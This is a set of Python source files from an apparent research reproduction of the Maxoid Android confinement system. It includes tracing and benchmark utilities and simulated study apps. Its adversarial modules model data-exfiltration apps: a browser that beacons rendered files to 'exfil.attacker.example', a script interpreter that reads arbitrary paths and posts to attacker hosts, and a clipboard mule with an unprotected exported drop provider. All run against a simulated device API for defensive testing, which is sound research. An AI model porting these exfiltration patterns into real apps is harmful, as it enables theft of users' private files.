            f"[{self.total_ms:.3f} ms, {self.coverage * 100.0:.1f}% attributed] --"
        ]
        for depth, step in enumerate(self.steps):
            pct = (step.self_ms / self.total_ms * 100.0) if self.total_ms > 0 else 0.0
            lines.append(
                f"  {'  ' * depth}{step.name:<24} "
                f"{step.duration_ms:9.3f} ms  self {step.self_ms:8.3f} ms ({pct:4.1f}%)"
            )
        lines.append("  by layer:")
        for layer, ms in sorted(self.by_layer.items(), key=lambda kv: -kv[1]):
            pct = (ms / self.total_ms * 100.0) if self.total_ms > 0 else 0.0
            lines.append(f"    {layer:<8} {ms:9.3f} ms  {pct:5.1f}%")
        return "\n".join(lines)


def _self_ms(node: SpanNode) -> float:
    child_ms = sum(child.span.duration_ms for child in node.children)
    return max(node.span.duration_ms - child_ms, 0.0)


def critical_path(tree: SpanNode) -> CriticalPathReport:
    """Analyze one trace tree: layer attribution plus the hot chain."""
    by_layer: Dict[str, float] = {}
    for node in tree.walk():
        layer = node.span.layer
        by_layer[layer] = by_layer.get(layer, 0.0) + _self_ms(node)
    steps: List[CriticalPathStep] = []
    node = tree
    while True:
        steps.append(
            CriticalPathStep(
                name=node.span.name,
                layer=node.span.layer,
                duration_ms=node.span.duration_ms,
                self_ms=_self_ms(node),
            )
        )
        if not node.children:
            break
        node = max(node.children, key=lambda child: child.span.duration_ms)
    return CriticalPathReport(
        root=tree.span.name,
        total_ms=tree.span.duration_ms,
        steps=steps,
        by_layer=by_layer,
    )


def critical_paths(
    trees: Iterable[SpanNode], min_ms: float = 0.0
) -> List[CriticalPathReport]:
    """Per-invocation reports for every root tree, slowest first."""
    reports = [
        critical_path(tree)
        for tree in trees
        if tree.span.duration_ms >= min_ms
    ]
    reports.sort(key=lambda report: -report.total_ms)
    return reports
