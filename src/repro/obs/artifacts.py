"""Machine-readable perf artifacts (``BENCH_obs.json``).

The benchmark suite prints human tables; CI and the bench trajectory want
numbers a script can diff across commits. This module maintains one JSON
file per subsystem (``BENCH_obs.json`` by convention, next to the repo
root) as a merge of named sections::

    {
      "layers": {"vfs": {"self_ms": 1.93, "fraction": 0.41}, ...},
      "gate_overhead": {"obs_disabled_pct": 2.1, "faults_disabled_pct": 1.4}
    }

Writers call :func:`update_bench_json` with just their section; existing
sections from other writers are preserved, so the overhead regressions in
``tests/obs``/``tests/faults`` and ``benchmarks/report_tables.py`` can
each contribute their slice independently. Tests opt in through the
``BENCH_OBS_JSON`` environment variable (CI sets it; a plain local run
writes nothing).

Every write also refreshes a ``run`` section with the run's metadata
(:func:`run_metadata`: artifact schema version, python/platform, seed,
git sha when available), which ``benchmarks/regress.py`` uses to refuse
comparisons between incompatible runs.
"""

from __future__ import annotations

import json
import os
import platform as _platform
import subprocess
import sys
from typing import Any, Dict, Iterable, Optional

from repro.obs.metrics import MetricsSnapshot
from repro.obs.profile import latency_summary
from repro.obs.report import layer_self_times
from repro.obs.trace import Span

__all__ = [
    "BENCH_OBS_ENV",
    "DEFAULT_BENCH_JSON",
    "SCHEMA_VERSION",
    "bench_json_target",
    "git_sha",
    "run_metadata",
    "layer_section",
    "latency_section",
    "load_blackbox",
    "update_bench_json",
    "write_blackbox",
]

#: Environment variable that opts tests into artifact emission.
BENCH_OBS_ENV = "BENCH_OBS_JSON"

#: Conventional artifact name, relative to the current directory.
DEFAULT_BENCH_JSON = "BENCH_obs.json"

#: Version of the artifact layout; bump on incompatible shape changes.
#: ``regress.py`` refuses to compare artifacts with different versions.
SCHEMA_VERSION = 1

_GIT_SHA_CACHE: Optional[str] = None
_GIT_SHA_RESOLVED = False


def git_sha() -> Optional[str]:
    """The current short git sha, or None outside a repo (cached)."""
    global _GIT_SHA_CACHE, _GIT_SHA_RESOLVED
    if not _GIT_SHA_RESOLVED:
        _GIT_SHA_RESOLVED = True
        try:
            out = subprocess.run(
                ["git", "rev-parse", "--short", "HEAD"],
                capture_output=True,
                text=True,
                timeout=5,
                cwd=os.path.dirname(os.path.abspath(__file__)),
            )
            if out.returncode == 0:
                _GIT_SHA_CACHE = out.stdout.strip() or None
        except (OSError, subprocess.SubprocessError):
            _GIT_SHA_CACHE = None
    return _GIT_SHA_CACHE


def run_metadata(seed: Optional[int] = None) -> Dict[str, Any]:
    """Identity of this run, stamped into every artifact.

    ``seed`` is whatever seed the writer pinned (e.g. a fault-schedule
    seed); ``$PYTHONHASHSEED`` is recorded when set so hash-order-
    sensitive drifts can be ruled out when two runs disagree.
    """
    hash_seed = os.environ.get("PYTHONHASHSEED")
    return {
        "schema_version": SCHEMA_VERSION,
        "python": _platform.python_version(),
        "implementation": _platform.python_implementation(),
        "platform": f"{sys.platform}-{_platform.machine()}",
        "seed": seed if seed is not None else (
            int(hash_seed) if hash_seed and hash_seed.isdigit() else None
        ),
        "git_sha": git_sha(),
    }


def bench_json_target() -> Optional[str]:
    """The artifact path from ``$BENCH_OBS_JSON``, or None when unset.

    An empty value or "0" means off; the literal "1" selects the
    conventional :data:`DEFAULT_BENCH_JSON` name; anything else is used
    as the path itself.
    """
    value = os.environ.get(BENCH_OBS_ENV, "").strip()
    if not value or value == "0":
        return None
    if value == "1":
        return DEFAULT_BENCH_JSON
    return value


def update_bench_json(path: str, section: str, values: Dict[str, Any]) -> Dict[str, Any]:
    """Merge ``values`` under ``section`` into the JSON file at ``path``.

    Reads the existing document (tolerating a missing or corrupt file),
    replaces just the named section, refreshes the ``run`` metadata
    section, and writes the result back with stable key ordering.
    Returns the merged document.
    """
    document: Dict[str, Any] = {}
    try:
        with open(path, "r", encoding="utf-8") as fh:
            loaded = json.load(fh)
        if isinstance(loaded, dict):
            document = loaded
    except (OSError, ValueError):
        pass
    document[section] = values
    if section != "run":
        document["run"] = run_metadata()
    parent = os.path.dirname(path)
    if parent:
        os.makedirs(parent, exist_ok=True)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(document, fh, indent=2, sort_keys=True)
        fh.write("\n")
    return document


# ----------------------------------------------------------------------
# Flight-recorder black-box dumps
# ----------------------------------------------------------------------

#: First JSONL line of a black-box dump; bump on incompatible changes.
BLACKBOX_SCHEMA_VERSION = 1


def write_blackbox(path: str, box: Any) -> str:
    """Seal a :class:`~repro.obs.recorder.BlackBox` to disk as JSONL.

    Line 1 is the header (trigger, device, anchor, events digest, run
    metadata); every following line is one event. JSONL keeps huge rings
    streamable — the timeline CLI and CI artifact uploads read these.
    Returns ``path``.
    """
    header = {
        "kind": "blackbox",
        "blackbox_schema": BLACKBOX_SCHEMA_VERSION,
        "trigger": box.trigger,
        "device_id": box.device_id,
        "anchor_seq": box.anchor_seq,
        "events_digest": box.events_digest(),
        "metadata": dict(box.metadata),
    }
    parent = os.path.dirname(path)
    if parent:
        os.makedirs(parent, exist_ok=True)
    with open(path, "w", encoding="utf-8") as sink:
        sink.write(json.dumps(header, sort_keys=True, default=str) + "\n")
        for event in box.events:
            sink.write(json.dumps(event.to_dict(), sort_keys=True, default=str) + "\n")
    return path


def load_blackbox(path: str) -> Any:
    """Load a dump written by :func:`write_blackbox`; verifies the
    recorded events digest (a corrupt dump raises ValueError)."""
    from repro.obs.recorder import BlackBox, Event

    with open(path, "r", encoding="utf-8") as source:
        lines = [line for line in source if line.strip()]
    if not lines:
        raise ValueError(f"{path}: empty black-box dump")
    header = json.loads(lines[0])
    if header.get("kind") != "blackbox":
        raise ValueError(f"{path}: not a black-box dump (kind={header.get('kind')!r})")
    events = tuple(Event.from_dict(json.loads(line)) for line in lines[1:])
    box = BlackBox(
        trigger=str(header["trigger"]),
        device_id=str(header["device_id"]),
        events=events,
        metadata=dict(header.get("metadata", {})),
    )
    recorded = header.get("events_digest")
    if recorded is not None and recorded != box.events_digest():
        raise ValueError(
            f"{path}: events digest mismatch — dump corrupt or hand-edited "
            f"(recorded {recorded[:16]}, computed {box.events_digest()[:16]})"
        )
    return box


def layer_section(spans: Iterable[Span]) -> Dict[str, Dict[str, float]]:
    """Per-layer self-times as an artifact section: milliseconds plus the
    fraction of total traced time, per taxonomy layer."""
    times = layer_self_times(spans)
    total = sum(times.values())
    return {
        layer: {
            "self_ms": round(ms, 6),
            "fraction": round(ms / total, 6) if total > 0 else 0.0,
        }
        for layer, ms in sorted(times.items())
    }


def latency_section(snapshot: MetricsSnapshot) -> Dict[str, Dict[str, float]]:
    """Per-span-name latency quantiles (``OBS.profile`` histograms) as an
    artifact section: count, mean, p50/p95/p99 per operation."""
    return latency_summary(snapshot)
