"""Scanner apps (Table 1, row 2).

- :class:`BarcodeScannerApp` (ZXing Barcode Scanner): scanning a QR code
  leaves the decoded text in a private recent-scans database — "the
  browser's incognito mode cannot erase the data's history in the
  scanning app" (section 2.2.IV) unless the scanner runs as a delegate.
- :class:`CamScannerApp`: scanning a document page leaves a private DB
  entry plus three public traces on the SD card: the scanned image, a
  thumbnail, and a log file.
"""

from __future__ import annotations

from typing import Any, Dict

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath


class BarcodeScannerApp(SimApp):
    """ZXing-style QR scanner."""

    BUILD = AppBuild(
        package="com.google.zxing.client.android",
        label="Barcode Scanner",
        handles=[IntentFilter(actions=[Intent.ACTION_SCAN])],
    )

    def on_scan(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        """Decode a QR code (the payload rides in the intent, standing in
        for the camera frame) and record it in the private history DB."""
        payload = str(intent.extras.get("qr_payload", ""))
        db = api.db("history")
        if "history" not in db.table_names():
            db.execute(
                "CREATE TABLE history (id INTEGER PRIMARY KEY, text TEXT, format TEXT)"
            )
        db.execute(
            "INSERT INTO history (text, format) VALUES (?, ?)", [payload, "QR_CODE"]
        )
        return {"text": payload, "format": "QR_CODE"}

    def recent_scans(self, api: AppApi) -> list:
        db = api.db("history")
        if "history" not in db.table_names():
            return []
        return [row[0] for row in db.query("SELECT text FROM history ORDER BY id").rows]


class CamScannerApp(SimApp):
    """CamScanner-style document scanner."""

    BUILD = AppBuild(
        package="com.intsig.camscanner",
        label="CamScanner",
        handles=[IntentFilter(actions=[Intent.ACTION_SCAN, Intent.ACTION_VIEW])],
    )

    def on_scan(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        """Scan a page: private DB entry + image, thumbnail and log on SD."""
        source = str(intent.extras.get("path", ""))
        page = api.sys.read_file(source) if source and api.sys.exists(source) else b"PAGE"
        name = vpath.basename(source) or "scan"
        db = api.db("scans")
        if "scans" not in db.table_names():
            db.execute("CREATE TABLE scans (id INTEGER PRIMARY KEY, name TEXT, size INTEGER)")
        db.execute("INSERT INTO scans (name, size) VALUES (?, ?)", [name, len(page)])
        image = api.write_external(f"CamScanner/{name}.jpg", b"SCANNED:" + page)
        thumbnail = api.write_external(f"CamScanner/.thumb/{name}.jpg", b"THUMB:" + page[:8])
        self._append_log(api, f"scanned {name} ({len(page)} bytes)")
        return {"image": image, "thumbnail": thumbnail, "name": name}

    on_view = on_scan  # opening a document re-scans it

    @staticmethod
    def _append_log(api: AppApi, line: str) -> None:
        log_path = "CamScanner/scanner.log"
        try:
            existing = api.read_external(log_path)
        except Exception:
            existing = b""
        api.write_external(log_path, existing + line.encode() + b"\n")
