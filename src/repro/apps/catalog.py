"""App catalog: install the paper's study set onto a device.

Gives experiments one call to stand up the 2.2 case-study environment:
the data-processing apps of Table 1 plus the four apps that need help,
the Maxoid-aware EBookDroid, and the wrapper app. The adversarial corpus
(:mod:`repro.apps.adversarial` — deliberate exfiltration apps, not
merely careless ones) registers alongside it; ``install_full_corpus``
stands up both for the fuzz plane and the adversarial scenario suite.
"""

from __future__ import annotations

from typing import Any, Dict

from repro.apps.adversarial import ADVERSARIAL_PACKAGES, install_adversarial_apps
from repro.apps.base import SimApp
from repro.apps.browser import BrowserApp
from repro.apps.camera import CameraApp
from repro.apps.dropbox import DropboxApp
from repro.apps.ebookdroid import EBookDroidApp
from repro.apps.email_app import EmailApp
from repro.apps.gdrive import GoogleDriveApp
from repro.apps.office import OfficeApp
from repro.apps.pdf_viewer import PdfViewerApp
from repro.apps.scanner import BarcodeScannerApp, CamScannerApp
from repro.apps.video import VideoPlayerApp
from repro.apps.wrapper import WrapperApp

#: All catalogued app classes, keyed by package name.
STANDARD_PACKAGES = {
    cls.BUILD.package: cls
    for cls in (
        PdfViewerApp,
        OfficeApp,
        BarcodeScannerApp,
        CamScannerApp,
        CameraApp,
        VideoPlayerApp,
        DropboxApp,
        GoogleDriveApp,
        EmailApp,
        BrowserApp,
        EBookDroidApp,
        WrapperApp,
    )
}


#: The whole corpus: the cooperative Table 1 set plus the attackers.
ALL_PACKAGES = {**STANDARD_PACKAGES, **ADVERSARIAL_PACKAGES}


def install_standard_apps(device: Any) -> Dict[str, SimApp]:
    """Install every catalogued app; returns package -> app instance."""
    installed: Dict[str, SimApp] = {}
    for package, cls in STANDARD_PACKAGES.items():
        installed[package] = cls.install(device)
    return installed


def install_full_corpus(device: Any) -> Dict[str, SimApp]:
    """Install the Table 1 catalogue *and* the adversarial corpus."""
    installed = install_standard_apps(device)
    installed.update(install_adversarial_apps(device))
    return installed
