"""The 77-app study fleet (paper sections 2.2 and 7.1).

The paper manually studies 77 popular data-processing apps in four
categories (Table 1: 17 document apps, 20 scanners, 30 photo apps, 10
media players) and reports that, run as delegates, *74 of the 77 work* —
only three (DocuSign, EasySign, ThinkTI Document Converter) fail, because
they need the network while processing.

This module synthesizes a comparable fleet: generic apps per category
whose processing step performs the category's Table 1 state-leaving
behaviour, three of which additionally require a network round-trip
mid-processing. Running the fleet as delegates reproduces the 74/77
result and the full Table 1 trace census.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, List

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.kernel import path as vpath

#: Category sizes from Table 1.
CATEGORY_SIZES = {"document": 17, "scanner": 20, "photo": 30, "media": 10}

#: The three apps the paper found non-functional as delegates.
NETWORK_DEPENDENT = {
    "com.docusign.ink",
    "com.easysign.esign",
    "com.thinkti.converter",
}


class GenericProcessorApp(SimApp):
    """A data-processing app parameterized by category.

    Its single operation reads the target file and leaves the category's
    Table 1 traces. Network-dependent variants (the DocuSign class of
    apps) must also reach their backend mid-processing — which is exactly
    what a delegate cannot do.
    """

    def __init__(self, package: str, category: str, needs_network: bool) -> None:
        self.BUILD = AppBuild(
            package=package,
            label=package.rsplit(".", 1)[-1],
            handles=[IntentFilter(actions=[Intent.ACTION_VIEW, Intent.ACTION_SCAN])],
        )
        super().__init__()
        self.category = category
        self.needs_network = needs_network

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        path = str(intent.extras.get("path", ""))
        data = api.sys.read_file(path) if path and api.sys.exists(path) else b"DATA"
        name = vpath.basename(path) or "item"
        if self.needs_network:
            # DocuSign-style processing: the document goes to the backend.
            socket = api.connect(f"{self.BUILD.package}.example")
            socket.send(data)
            socket.close()
        self._leave_traces(api, name, data)
        return {"name": name, "bytes": len(data)}

    on_scan = on_view

    def _leave_traces(self, api: AppApi, name: str, data: bytes) -> None:
        if self.category == "document":
            api.prefs.append_to_list("recent_files", name)
            api.write_external(f"{self.BUILD.label}/cache/{name}", data)
        elif self.category == "scanner":
            db = api.db("scans")
            if "scans" not in db.table_names():
                db.execute("CREATE TABLE scans (id INTEGER PRIMARY KEY, name TEXT)")
            db.execute("INSERT INTO scans (name) VALUES (?)", [name])
            api.write_external(f"{self.BUILD.label}/out/{name}.jpg", b"IMG:" + data[:8])
        elif self.category == "photo":
            path = api.write_external(f"DCIM/{self.BUILD.label}/{name}.jpg", data or b"\xff\xd8")
            api.scan_media(path)
        else:  # media
            db = api.db("playback")
            if "history" not in db.table_names():
                db.execute("CREATE TABLE history (id INTEGER PRIMARY KEY, name TEXT)")
            db.execute("INSERT INTO history (name) VALUES (?)", [name])
            api.write_external(f"{self.BUILD.label}/.thumbs/{name}.jpg", b"THUMB")


@dataclass
class FleetApp:
    package: str
    category: str
    needs_network: bool
    app: GenericProcessorApp


def build_study_fleet() -> List[FleetApp]:
    """The 77 apps: category sizes from Table 1, three network-dependent."""
    fleet: List[FleetApp] = []
    network_packages = iter(sorted(NETWORK_DEPENDENT))
    # The three network apps are document-category (signature/conversion
    # services), as in the paper.
    document_packages = list(NETWORK_DEPENDENT)
    for category, size in CATEGORY_SIZES.items():
        existing = len(document_packages) if category == "document" else 0
        for index in range(size - existing):
            package = f"com.study.{category}{index:02d}"
            fleet.append(
                FleetApp(
                    package=package,
                    category=category,
                    needs_network=False,
                    app=GenericProcessorApp(package, category, needs_network=False),
                )
            )
        if category == "document":
            for package in document_packages:
                fleet.append(
                    FleetApp(
                        package=package,
                        category=category,
                        needs_network=True,
                        app=GenericProcessorApp(package, category, needs_network=True),
                    )
                )
    assert len(fleet) == sum(CATEGORY_SIZES.values()) == 77
    return fleet


def install_fleet(device: Any) -> List[FleetApp]:
    """Install all 77 apps (and their backends for the networked three)."""
    fleet = build_study_fleet()
    for member in fleet:
        device.install(member.app.BUILD.manifest(), member.app)
        if member.needs_network:
            device.network.add_host(f"{member.package}.example")
    return fleet


def run_fleet_as_delegates(device: Any, initiator: str, path: str):
    """Run every fleet app once as ``initiator``'s delegate on ``path``.

    Returns ``(worked, failed)`` package lists — the paper's 74/77 census.
    """
    from repro.errors import NetworkUnreachable

    worked: List[str] = []
    failed: List[str] = []
    for member in install_fleet(device):
        api = device.spawn(member.package, initiator=initiator)
        try:
            member.app.main(api, Intent(Intent.ACTION_VIEW, extras={"path": path}))
            worked.append(member.package)
        except NetworkUnreachable:
            failed.append(member.package)
    return worked, failed
