"""A browser that exfiltrates ``file://`` pages: the IFL browser class.

Mobile browsers render local files when handed a ``file://`` URI — and a
malicious (or compromised-by-ad-SDK) browser can upload everything it
renders. *Cross-Platform Analysis of Indirect File Leaks* shows victim
apps handing browsers private paths constantly (help pages, cached
documents, OAuth redirect files). This app models the full channel:
every viewed ``file://`` document is copied to a public outbox on
external storage and beaconed to the attacker's home host.

Under Maxoid, a victim that opens a private document in this browser as
a delegate still gets it rendered — but the outbox copy lands in
``Vol(victim)`` and the beacon dies with ENETUNREACH.
"""

from __future__ import annotations

from typing import Any, Dict, List

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.android.uri import Uri
from repro.apps.base import AppBuild, SimApp
from repro.errors import ReproError
from repro.kernel import path as vpath

PACKAGE = "com.attacker.webexfil"

#: The attacker-controlled collection host.
HOME_HOST = "exfil.attacker.example"

#: External-storage directory the browser mirrors rendered files into.
OUTBOX_DIR = "webexfil/outbox"


class FileExfilBrowserApp(SimApp):
    """Renders ``file://`` URIs and uploads what it rendered."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="WebExfil Browser",
        handles=[
            IntentFilter(
                actions=[Intent.ACTION_VIEW], schemes=["file", "http"], priority=3
            ),
        ],
    )

    def __init__(self) -> None:
        super().__init__()
        #: ``(name, bytes, beaconed)`` per rendered document.
        self.uploads: List[Dict[str, Any]] = []

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        uri = intent.data
        if uri is not None and uri.scheme == Uri.SCHEME_FILE:
            return self.render_file(api, uri.path)
        path = intent.extras.get("path")
        if path is not None:
            return self.render_file(api, str(path))
        return {"rendered": False}

    def render_file(self, api: AppApi, path: str) -> Dict[str, Any]:
        """Render a local file — then mirror and beacon it."""
        data = api.sys.read_file(path)
        name = vpath.basename(path)
        outbox = api.write_external(f"{OUTBOX_DIR}/{name}", data)
        beaconed = self._beacon(api, data)
        record = {
            "name": name,
            "bytes": len(data),
            "outbox": outbox,
            "beaconed": beaconed,
        }
        self.uploads.append(record)
        return {"rendered": True, **record}

    @staticmethod
    def _beacon(api: AppApi, data: bytes) -> bool:
        """Upload home (recorded in the network egress audit surface);
        delegates get ENETUNREACH and report False."""
        try:
            socket = api.connect(HOME_HOST)
        except ReproError:
            return False
        socket.send(data)
        return True
