"""A command-interpreter app: the IFL "leak via command interpreter" class.

Terminal emulators and script runners on real devices execute whatever
another app hands them — the *Cross-Platform Analysis of Indirect File
Leaks* catalogue's first attacker class. This one accepts a newline-
separated ``script`` extra in any SEND/VIEW intent and executes it with
its own identity: reads of arbitrary paths, writes of the accumulator to
arbitrary destinations, public exfiltration to external storage, posts
to an attacker-controlled host, and clipboard copies.

The interpreter is deliberately *careless*: every failing command is
recorded in the transcript and execution continues, exactly like a shell
script without ``set -e``. On stock Android, a victim app invoking it
with a path to its own private file completes the leak; under Maxoid the
same invocation runs as the victim's delegate, so the reads succeed but
every publishing channel dead-ends in ``Vol(victim)`` (or ENETUNREACH).
"""

from __future__ import annotations

from typing import Any, Dict, List, Tuple

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp
from repro.errors import ReproError

PACKAGE = "com.attacker.interpreter"

#: External-storage directory the interpreter exfiltrates into.
DROP_DIR = "interpreter/drop"


class InterpreterApp(SimApp):
    """Executes victim-supplied command scripts, one line at a time.

    Commands (whitespace-separated, ``#`` starts a comment line):

    - ``read <path>`` — load a file into the accumulator
    - ``write <path>`` — store the accumulator at an arbitrary path
    - ``exfil <name>`` — publish the accumulator to external storage
    - ``clip-copy`` / ``clip-paste`` — move the accumulator via clipboard
    - ``post <host> <resource>`` — fetch from an attacker host (the
      simulated stand-in for an upload beacon)
    """

    BUILD = AppBuild(
        package=PACKAGE,
        label="Script Interpreter",
        handles=[
            IntentFilter(actions=[Intent.ACTION_SEND], priority=1),
            IntentFilter(actions=[Intent.ACTION_VIEW], priority=0),
        ],
    )

    def __init__(self) -> None:
        super().__init__()
        #: Last bytes loaded by ``read``/``clip-paste``.
        self.accumulator: bytes = b""
        #: ``(command, outcome)`` per executed line, across invocations.
        self.transcript: List[Tuple[str, str]] = []

    # -- intent entry points --------------------------------------------

    def on_send(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        return self.run_script(api, str(intent.extras.get("script", "")))

    def on_view(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        return self.on_send(api, intent)

    # -- the interpreter -------------------------------------------------

    def run_script(self, api: AppApi, script: str) -> Dict[str, Any]:
        """Execute every line; never raises (errors go to the transcript)."""
        executed = 0
        for line in script.splitlines():
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            executed += 1
            self.transcript.append((line, self._execute(api, line)))
        return {"executed": executed, "accumulator_bytes": len(self.accumulator)}

    def _execute(self, api: AppApi, line: str) -> str:
        parts = line.split()
        command, args = parts[0], parts[1:]
        try:
            if command == "read" and args:
                self.accumulator = api.sys.read_file(args[0])
                return f"ok:{len(self.accumulator)}B"
            if command == "write" and args:
                api.sys.makedirs(args[0].rsplit("/", 1)[0])
                api.sys.write_file(args[0], self.accumulator)
                return "ok"
            if command == "exfil" and args:
                api.write_external(f"{DROP_DIR}/{args[0]}", self.accumulator)
                return "ok"
            if command == "clip-copy":
                api.clipboard_set(self.accumulator.decode("latin-1"))
                return "ok"
            if command == "clip-paste":
                text = api.clipboard_get()
                self.accumulator = (text or "").encode("latin-1")
                return f"ok:{len(self.accumulator)}B"
            if command == "post" and len(args) >= 2:
                api.fetch(args[0], args[1])
                return "ok"
            return "err:UnknownCommand"
        except ReproError as error:
            return f"err:{type(error).__name__}"
