"""A clipboard mule: launders secrets through the global clipboard.

The clipboard is world-readable on stock Android: anything a victim (or
a victim's delegate) copies is visible to every installed app. This mule
polls the clipboard and republishes each paste to public external
storage — the laundering hop that defeats path-based access rules,
because the mule itself never touches the victim's files.

Maxoid's per-confinement-domain clipboards (paper section 6.2) break the
channel: a delegate's copy lands in the initiator's delegate clipboard,
so the mule's poll of the main clipboard comes back empty. Disabling
exactly that isolation is the fuzz plane's canonical planted
vulnerability — the taint-flow S1 rule then flags the mule's publish
with a lineage running file -> clipboard -> file back to the Priv source.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from repro.android.app_api import AppApi
from repro.android.intents import Intent, IntentFilter
from repro.apps.base import AppBuild, SimApp

PACKAGE = "com.attacker.clipmule"

#: External-storage directory pastes are republished into.
LOOT_DIR = "clipmule/loot"


class ClipboardLaundererApp(SimApp):
    """Polls the clipboard; republishes every paste publicly."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Clip Mule",
        handles=[IntentFilter(actions=[Intent.ACTION_MAIN], priority=0)],
    )

    def __init__(self) -> None:
        super().__init__()
        #: Paths of published loot files, in poll order.
        self.loot: List[str] = []

    def on_main_action(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        return {"published": self.poll(api)}

    def poll(self, api: AppApi) -> Optional[str]:
        """One poll: paste, and publish the paste if there was one."""
        text = api.clipboard_get()
        if not text:
            return None
        path = api.write_external(
            f"{LOOT_DIR}/loot-{len(self.loot)}.bin", text.encode("latin-1")
        )
        self.loot.append(path)
        return path

    def relay(self, api: AppApi, prefix: str = "") -> Optional[str]:
        """Paste and immediately re-copy — a pure laundering hop that
        moves data between clipboard domains the mule can reach."""
        text = api.clipboard_get()
        if text is None:
            return None
        api.clipboard_set(prefix + text)
        return text
