"""A clipboard mule: launders secrets through the global clipboard.

The clipboard is world-readable on stock Android: anything a victim (or
a victim's delegate) copies is visible to every installed app. This mule
polls the clipboard and republishes each paste to public external
storage — the laundering hop that defeats path-based access rules,
because the mule itself never touches the victim's files.

Maxoid's per-confinement-domain clipboards (paper section 6.2) break the
channel: a delegate's copy lands in the initiator's delegate clipboard,
so the mule's poll of the main clipboard comes back empty. Disabling
exactly that isolation is the fuzz plane's canonical planted
vulnerability — the taint-flow S1 rule then flags the mule's publish
with a lineage running file -> clipboard -> file back to the Priv source.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional, Sequence

from repro.android.app_api import AppApi
from repro.android.content.provider import ContentProvider, ContentValues
from repro.android.intents import Intent, IntentFilter
from repro.android.uri import Uri
from repro.apps.base import AppBuild, SimApp
from repro.kernel.proc import TaskContext
from repro.minisql.engine import ResultSet

PACKAGE = "com.attacker.clipmule"

#: The mule's exported dead-drop: any caller the binder admits may insert
#: bytes, which the mule's plain serving process republishes publicly.
DROP_AUTHORITY = "com.attacker.clipmule.drop"

#: External-storage directory pastes are republished into.
LOOT_DIR = "clipmule/loot"


class ClipDropProvider(ContentProvider):
    """``content://com.attacker.clipmule.drop/<name>`` — an exported,
    unprotected insert surface that publishes whatever it is handed.

    Under Maxoid this surface is dead to delegates: the binder guard
    refuses a ``B^A`` sender a channel to the plain mule's provider
    (different confinement domains), so the secret can never reach the
    serving process. Only a broken guard — e.g. the planted
    ``binder-guard-race`` check-then-act window — lets an insert through,
    and then the caller-taint transfer below makes the mule's public
    republish light up the taint-flow S1 rule."""

    authority = DROP_AUTHORITY
    owner = PACKAGE
    exported = True  # android:exported="true", no permission attribute

    def __init__(self, app: "ClipboardLaundererApp") -> None:
        self._app = app

    def insert(self, uri: Uri, values: ContentValues, context: TaskContext) -> Uri:
        api = self._app.require_api()
        name = uri.last_segment or "drop"
        data = values.get("data", b"")
        if isinstance(data, str):
            data = data.encode("latin-1")
        obs = api.process.obs
        if obs.prov:
            # The payload hand-off moves the *caller's* taint into the
            # serving process (the binder layer pushed the caller as
            # actor), so the republish below stamps what actually flowed.
            _, caller_pid = obs.provenance.current_actor()
            if caller_pid is not None:
                obs.provenance.transfer(
                    caller_pid, api.process.pid, "provider.insert", str(uri)
                )
        path = api.write_external(f"{LOOT_DIR}/{name}.bin", data)
        self._app.loot.append(path)
        return uri

    def query(
        self,
        uri: Uri,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        context: TaskContext,
    ) -> ResultSet:
        return ResultSet(
            columns=["path"], rows=[(p,) for p in sorted(self._app.loot)]
        )


class ClipboardLaundererApp(SimApp):
    """Polls the clipboard; republishes every paste publicly."""

    BUILD = AppBuild(
        package=PACKAGE,
        label="Clip Mule",
        handles=[IntentFilter(actions=[Intent.ACTION_MAIN], priority=0)],
    )

    def __init__(self) -> None:
        super().__init__()
        #: Paths of published loot files, in poll order.
        self.loot: List[str] = []
        self.provider = ClipDropProvider(self)
        self._device: Optional[Any] = None
        self._serving_api: Optional[AppApi] = None

    def on_install(self, device: Any, installed: Any) -> None:
        self._device = device
        device.register_app_provider(self.provider)

    def require_api(self) -> AppApi:
        """The drop provider's serving process: always a *plain* instance
        of the mule (providers run in the owner's own process)."""
        if self._serving_api is None or not self._serving_api.process.alive:
            if self._device is None:
                raise RuntimeError(f"{PACKAGE} is not installed on a device")
            self._serving_api = self._device.spawn(PACKAGE)
        return self._serving_api

    def on_main_action(self, api: AppApi, intent: Intent) -> Dict[str, Any]:
        return {"published": self.poll(api)}

    def poll(self, api: AppApi) -> Optional[str]:
        """One poll: paste, and publish the paste if there was one."""
        text = api.clipboard_get()
        if not text:
            return None
        path = api.write_external(
            f"{LOOT_DIR}/loot-{len(self.loot)}.bin", text.encode("latin-1")
        )
        self.loot.append(path)
        return path

    def relay(self, api: AppApi, prefix: str = "") -> Optional[str]:
        """Paste and immediately re-copy — a pure laundering hop that
        moves data between clipboard domains the mule can reach."""
        text = api.clipboard_get()
        if text is None:
            return None
        api.clipboard_set(prefix + text)
        return text
