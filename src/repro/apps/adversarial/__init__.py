"""The adversarial app corpus: attacker classes beyond Table 1.

The cooperative Table 1 catalogue exercises apps that leak state by
*carelessness*; Maxoid's actual claim is safety against apps that leak
on purpose. This package models the indirect-file-leak (IFL) attacker
classes from *Cross-Platform Analysis of Indirect File Leaks* — each one
a deliberate exfiltration channel that stock Android permits:

- :class:`~repro.apps.adversarial.interpreter.InterpreterApp` — a
  command-interpreter app (terminal emulator / script runner) that
  blindly executes victim-supplied command scripts, including reads of
  arbitrary paths and writes to world-readable storage;
